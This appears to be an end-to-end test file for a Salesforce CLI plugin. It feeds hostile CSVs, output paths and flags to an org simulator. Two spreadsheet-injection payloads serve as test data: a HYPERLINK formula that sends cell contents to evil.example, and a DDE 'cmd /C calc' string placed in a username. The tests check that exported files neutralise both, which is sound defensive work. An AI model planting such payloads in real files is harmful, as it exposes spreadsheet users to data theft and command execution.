/*
 * End to end, issue 10 (the input and output side): the built plugin binary against the org
 * simulator with hostile CSVs, output paths and flags. Each case failed before its fix.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { buildDemoOrg, buildScenarioOrg, type SimOrg, type Simulator } from './simulator.js';
import { commandCalls, preflight, runPlugin, simulatorPerTest, type CliRun } from './cli.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

function expectNoStackTrace(run: CliRun): void {
  expect(run.stdout + run.stderr).not.to.match(/\n\s+at .+\(.+:\d+:\d+\)/);
}

/** The demo org, with one Export Reports holder who renamed themselves to a formula. */
function orgWithFormulaName(): { org: SimOrg; username: string } {
  const org = buildDemoOrg();
  const users = org.objects.User as Array<Record<string, unknown>>;
  const holderIds = new Set((org.objects.PermissionSetAssignment as Array<Record<string, unknown>>).map((a) => a.AssigneeId));
  const victim = users.find((u) => u.IsActive && holderIds.has(u.Id) && u.UserType === 'Standard') as Record<string, unknown>;
  victim.Name = FORMULA;
  victim.FirstName = '=HYPERLINK("http://evil.example/?"&A1,';
  victim.LastName = '"Click")';
  return { org, username: String(victim.Username) };
}

describe('e2e: hostile inputs and outputs (issue 10)', function () {
  this.timeout(120_000);
  const sims = simulatorPerTest();
  let sim: Simulator;
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'c42-e2e-hostile-'));
  });
  const file = (name: string, content: string | Buffer): string => {
    const path = join(dir, name);
    writeFileSync(path, content);
    return path;
  };

  it('defect 1: a Name that is a formula is written neutralized to the preflight --output-file', async () => {
    const { org, username } = orgWithFormulaName();
    sim = await sims.start(org);
    const out = join(dir, 'in-scope.csv');
    const run = await preflight(sim, ['--output-file', out, '--json']);
    expect(run.json?.result, run.stderr).to.be.an('object');
    const text = readFileSync(out, 'utf8');
    const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
    const row = rows.find((r) => r.Username === username);
    expect(row?.Name).to.equal(`'${FORMULA}`);
    expect(text).not.to.match(/(^|,)=HYPERLINK/m);
    // --json keeps the real value: only the spreadsheet file is neutralized.
    expect(run.json.result.inScopeUsers.some((u: { name: string }) => u.name === FORMULA)).to.equal(true);
  });

  it('defect 1: a username that starts like a formula is neutralized in the access-errors --output-file', async () => {
    const org = buildDemoOrg();
    const service = (org.objects.User as Array<Record<string, unknown>>).find((u) => String(u.Username).startsWith('code42-service@'))!;
    service.Username = `@SUM(1+1)*cmd|' /C calc'!A0@northwind.example`;
    sim = await sims.start(org);
    const out = join(dir, 'errors.csv');
    const run = await runPlugin(sim, ['code42', 'access-errors', '--output-file', out, '--json']);
    expect(run.code, run.stderr).to.equal(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.length).to.be.greaterThan(0);
    expect(rows.filter((r) => r.Username.startsWith('@'))).to.deep.equal([]);
    expect(rows.some((r) => r.Username === `'${String(service.Username)}`)).to.equal(true);
  });

  it('defect 4: a 2 MB value ends at once, human output too, naming the row, exit 2, no API call', async () => {
    const csv = file('users.csv', `Username\nann@x.example\n${'x'.repeat(2_000_000)}\n`);
    sim = await sims.start(buildDemoOrg());
    const run = await preflight(sim, ['--scope', 'users', '--users-file', csv]);
    expect(run.code, run.stderr).to.equal(2);
    expect(run.seconds).to.be.below(15);
    expect(run.stderr).to.match(/users\.csv, row 3: the value has 2,000,000 characters/);
    expect(run.stderr.length).to.be.below(2000);
    expect(commandCalls(sim)).to.equal(0);
    expectNoStackTrace(run);
  });

  describe('defect 5: --output-file and --save-result', () => {
    for (const [name, target] of [
      ['a missing folder', (): string => join(dir, 'no-such-folder', 'out.csv')],
      ['a folder given as the file', (): string => dir],
    ] as Array<[string, () => string]>) {
      it(`preflight: ${name} is refused before any API call, exit 2, with the fix`, async () => {
        sim = await sims.start(buildDemoOrg());
        const run = await preflight(sim, ['--output-file', target(), '--json']);
        expect(run.code, run.stdout).to.equal(2);
        expect(run.json?.actions ?? []).to.not.be.empty;
        expect(run.json?.message).to.match(/does not exist|is a folder/);
        expect(commandCalls(sim), 'no API call').to.equal(0);
      });
    }

    it('access-errors: a missing folder is refused before any API call, exit 2, with the fix', async () => {
      sim = await sims.start(buildDemoOrg());
      const run = await runPlugin(sim, ['code42', 'access-errors', '--output-file', join(dir, 'nope', 'e.csv')]);
      expect(run.code, run.stderr).to.equal(2);
      expect(run.stderr).to.include('does not exist');
      expect(run.stderr).to.include('mkdir -p');
      expect(commandCalls(sim)).to.equal(0);
      expectNoStackTrace(run);
    });

    it('a write that still fails at the end prints the finished report first, then the error with an action', async function () {
      // A device that accepts the open and refuses every write (ENOSPC): the check passes, the write fails.
      const full = '/dev/full';
      if (!existsSync(full)) this.skip();
      sim = await sims.start(buildDemoOrg());
      const human = await preflight(sim, ['--output-file', full]);
      expect(human.code).to.equal(1);
      expect(human.stdout).to.match(/In scope: \d+ users will be monitored/);
      expect(human.stdout).not.to.include('In-scope users written to');
      expect(human.stderr).to.match(/The report above is complete, but \/dev\/full could not be written \(ENOSPC\)/);
      expectNoStackTrace(human);
      const json = await preflight(sim, ['--output-file', full, '--json']);
      expect(json.json?.name).to.equal('OutputWriteFailedError');
      expect(json.json?.result?.checks, 'the report is in the one JSON document').to.be.an('array').that.is.not.empty;
      const ae = await runPlugin(sim, ['code42', 'access-errors', '--output-file', full]);
      expect(ae.stdout).to.match(/Total: \d+ errors/);
      expect(ae.stderr).to.include('could not be written (ENOSPC)');
    });

    it('a --save-result that fails prints the report first, then the error (and --json keeps the report)', async () => {
      sim = await sims.start(buildScenarioOrg('healthy'));
      const human = await preflight(sim, ['--save-result']);
      expect(human.code).to.not.equal(0);
      expect(human.stdout).to.match(/In scope: \d+ users? will be monitored/);
      expect(human.stderr).to.match(/sf project deploy start/);
      const json = await preflight(sim, ['--save-result', '--json']);
      expect(json.json?.actions?.join(' ')).to.match(/sf project deploy start/);
      expect(json.json?.result?.checks).to.be.an('array').that.is.not.empty;
    });
  });

  describe('defect 6: bad input exits 2, as --help says', () => {
    it('a missing scoping file, a folder as the scoping file, --api-version 10.0 (both commands)', async () => {
      sim = await sims.start(buildDemoOrg());
      const folder = join(dir, 'scopes');
      mkdirSync(folder);
      const cases: Array<[string[], RegExp]> = [
        [['code42', 'preflight', '--scope', 'users', '--users-file', join(dir, 'missing.csv')], /Cannot read the scoping CSV .*missing\.csv \(ENOENT\)/],
        [['code42', 'preflight', '--scope', 'groups', '--groups-file', folder], /is a folder, not a file/],
        [['code42', 'preflight', '--api-version', '10.0'], /API version/],
        [['code42', 'access-errors', '--in-scope', '--scope', 'users', '--users-file', join(dir, 'missing.csv')], /ENOENT/],
        [['code42', 'access-errors', '--api-version', '10.0'], /API version/],
        [['code42', 'access-errors', '--start', 'yesterday'], /--start "yesterday"/],
      ];
      for (const [args, message] of cases) {
        // eslint-disable-next-line no-await-in-loop
        const run = await runPlugin(sim, args);
        expect(run.code, `${args.join(' ')}: ${run.stderr}`).to.equal(2);
        expect(run.stderr).to.match(message);
        expectNoStackTrace(run);
      }
      expect(commandCalls(sim)).to.equal(0);
    });

    it('--help of both commands lists exit code 2', async () => {
      sim = await sims.start(buildDemoOrg());
      for (const command of ['preflight', 'access-errors']) {
        // eslint-disable-next-line no-await-in-loop
        const run = await runPlugin(sim, ['code42', command, '--help']);
        expect(run.stdout, command).to.match(/- 2: bad flags or files/);
      }
    });
  });

  it('defect 7: access-errors refuses scoping flags without --in-scope (exit 2, the fix, no API call)', async () => {
    const csv = file('users.csv', 'Username\nann@x.example\n');
    sim = await sims.start(buildDemoOrg());
    for (const args of [['--users-file', csv], ['--scope', 'users', '--users-file', csv], ['--scope', 'groups']]) {
      // eslint-disable-next-line no-await-in-loop
      const run = await runPlugin(sim, ['code42', 'access-errors', ...args, '--json']);
      expect(run.code, args.join(' ')).to.equal(2);
      expect(run.json?.message).to.include('Without --in-scope');
      expect(run.json?.actions?.join(' ')).to.include('Add --in-scope');
    }
    expect(commandCalls(sim)).to.equal(0);
  });

  it('defect 8: a users file over 1,000 rows costs no call on its rows: the same calls as --scope all', async () => {
    const org = buildDemoOrg();
    const rows = Array.from({ length: 3000 }, (_, i) => `nobody${i}@x.example`);
    const csv = file('users.csv', ['Username', ...rows].join('\n') + '\n');
    sim = await sims.start(org);
    const all = await preflight(sim, ['--json']);
    const allCalls = commandCalls(sim);
    await sim.stop();
    sim = await sims.start(buildDemoOrg());
    const run = await preflight(sim, ['--scope', 'users', '--users-file', csv, '--json']);
    expect(all.json?.result).to.be.an('object');
    expect(commandCalls(sim), 'no lookup of the 3,000 rows').to.equal(allCalls);
    const scope = run.json.result.checks.find((c: { id: string }) => c.id === 'scope-entries');
    expect(scope.status).to.equal('fail');
    expect(scope.message).to.include('3,000 entries');
    const holders = run.json.result.checks.find((c: { id: string }) => c.id === 'report-export-holders');
    expect(holders.status).to.equal('skip');
    expect(holders.message).to.match(/not looked up in the org \(no API call was spent on them\)/);
    const human = await preflight(sim, ['--scope', 'users', '--users-file', csv]);
    expect(human.stdout).to.include('In scope: unknown; the [report-export-holders] line under "Not checked" says why.');
    expect(human.stdout).to.include("users.csv has 3,000 entries, over Code42's limit of 1,000");
    // access-errors --in-scope with the same file: refused before any API call (it names nobody Code42 would add).
    await sim.stop();
    sim = await sims.start(buildDemoOrg());
    const ae = await runPlugin(sim, ['code42', 'access-errors', '--in-scope', '--scope', 'users', '--users-file', csv]);
    expect(ae.code, ae.stderr).to.equal(2);
    expect(ae.stderr).to.include("users.csv has 3,000 entries, over Code42's limit of 1,000");
    expect(commandCalls(sim)).to.equal(0);
    // A groups file over the limit: no level of nested groups is expanded either.
    const groupsCsv = file('groups.csv', ['Name', ...Array.from({ length: 1500 }, (_, i) => `Group ${i}`)].join('\n') + '\n');
    await sim.stop();
    sim = await sims.start(buildDemoOrg());
    const groups = await preflight(sim, ['--scope', 'groups', '--groups-file', groupsCsv, '--json']);
    expect(groups.json?.result?.scope?.entries, groups.stderr).to.equal(1500);
    expect(commandCalls(sim), 'no GroupMember level read').to.be.at.most(allCalls);
    const soqls = sim.requests.flatMap((r) => [r.soql, ...((r as { subrequests?: Array<{ soql?: string }> }).subrequests ?? []).map((x) => x.soql)]);
    expect(soqls.some((q) => /FROM\s+Group\b/i.test(q ?? '')), 'the groups are read').to.equal(true);
    expect(soqls.filter((q) => /FROM\s+GroupMember/i.test(q ?? ''))).to.deep.equal([]);
  });

  it("defect 11: a users file with Excel's sep=, line is read under its header", async () => {
    const org = buildDemoOrg();
    const users = (org.objects.User as Array<Record<string, unknown>>).filter((u) => u.IsActive).slice(0, 2);
    const csv = file('users.csv', `sep=,\r\nUsername,Title\r\n${users.map((u) => `${String(u.Username)},"A, B"`).join('\r\n')}\r\n`);
    sim = await sims.start(org);
    const run = await preflight(sim, ['--scope', 'users', '--users-file', csv, '--json']);
    expect(run.json?.result?.scope?.entries, run.stderr).to.equal(2);
    expect(run.json.result.scope.unmatched).to.deep.equal([]);
    expect(run.json.result.scope.column).to.equal('Username');
  });

  it('defect 12: a Windows-1252 file is refused naming the encoding and Excel\'s "CSV UTF-8"; UTF-16 with a BOM is read', async () => {
    const cp1252 = file('users.csv', Buffer.concat([Buffer.from('Username\nj'), Buffer.from([0xfc]), Buffer.from('rgen@x.example\n')]));
    sim = await sims.start(buildDemoOrg());
    const bad = await preflight(sim, ['--scope', 'users', '--users-file', cp1252]);
    expect(bad.code).to.equal(2);
    expect(bad.stderr).to.include('row 2, is not UTF-8');
    expect(bad.stderr).to.include('Windows-1252');
    expect(bad.stderr).to.include('CSV UTF-8 (Comma delimited)');
    const username = String((sim.org.objects.User as Array<Record<string, unknown>>).find((u) => u.IsActive)?.Username);
    const utf16 = file('users16.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Username\r\n${username}\r\n`, 'utf16le')]));
    const good = await preflight(sim, ['--scope', 'users', '--users-file', utf16, '--json']);
    expect(good.json?.result?.scope?.entries, good.stderr).to.equal(1);
    expect(good.json.result.scope.unmatched).to.deep.equal([]);
  });

  it('defect 13: human output names the column read, the unused one, and repeated rows', async () => {
    const org = buildDemoOrg();
    const user = (org.objects.User as Array<Record<string, unknown>>).find((u) => u.IsActive)!;
    const csv = file('users.csv', `Email,Username\n${String(user.Email)},${String(user.Username)}\nx@y.example,${String(user.Username).toUpperCase()}\n`);
    sim = await sims.start(org);
    const run = await preflight(sim, ['--scope', 'users', '--users-file', csv]);
    expect(run.stdout).to.include('Scoping CSV users.csv: read the "Username" column; "Email" is also there and not used.');
    expect(run.stdout).to.include('users.csv: 1 repeated row (row 3 repeats row 2); Code42 counts every row toward its limit');
    expect(run.stdout).not.to.include('one users');
  });
});
